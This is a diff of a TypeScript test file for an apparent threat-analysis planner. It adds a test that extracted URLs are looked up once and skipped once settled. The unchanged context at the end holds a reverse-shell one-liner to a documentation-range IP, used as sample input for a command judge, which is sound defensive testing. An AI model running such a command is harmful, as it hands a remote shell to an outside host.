@@ -47,6 +47,32 @@ test('the URLs that a text names are taken apart too where somebody offers that,
   expect(asked('another')).toEqual([]);
 });
 
+test('what a text names is looked up once for all its URLs, and not at all when none is left to ask about', () => {
+  let read = 0;
+  const iocs = Array.from({ length: 3 }, (_, nth) => ({ type: 'url', value: `http://example.com/${nth}` }));
+  const text = {
+    ...resultOf({ iocs }),
+    get extracted() {
+      read += 1;
+      return iocs.map(({ type, value }, nth) => ({ type, value, line: nth + 1 }));
+    },
+  };
+  const asked = (...steps: string[]) => {
+    read = 0;
+    const settled = new Map<string, unknown>([['text', text], ...steps.map((step) => [step, {}] as const)]);
+    const urls = rulesPlanner
+      .next({ ...situation(), kind: 'report', settled, offers: () => true })
+      .filter(({ skill }) => skill === 'analyze_url');
+    return urls.map(({ params }) => (params.origin as { locator: string }).locator);
+  };
+  expect(asked()).toEqual(['line 1', 'line 2', 'line 3']);
+  const at_once = read;
+  expect(asked('url-1', 'url-2')).toEqual(['line 3']);
+  expect(read).toBe(at_once);
+  expect(asked('url-1', 'url-2', 'url-3')).toEqual([]);
+  expect(read).toBeLessThan(at_once);
+});
+
 test('the commands of a script go to who judges commands, beside the text', () => {
   const text = 'bash -i >& /dev/tcp/198.51.100.2/4444 0>&1';
   const asked = rulesPlanner.next({ ...situation(), kind: 'report', commands: [{ text, line: 3 }] });
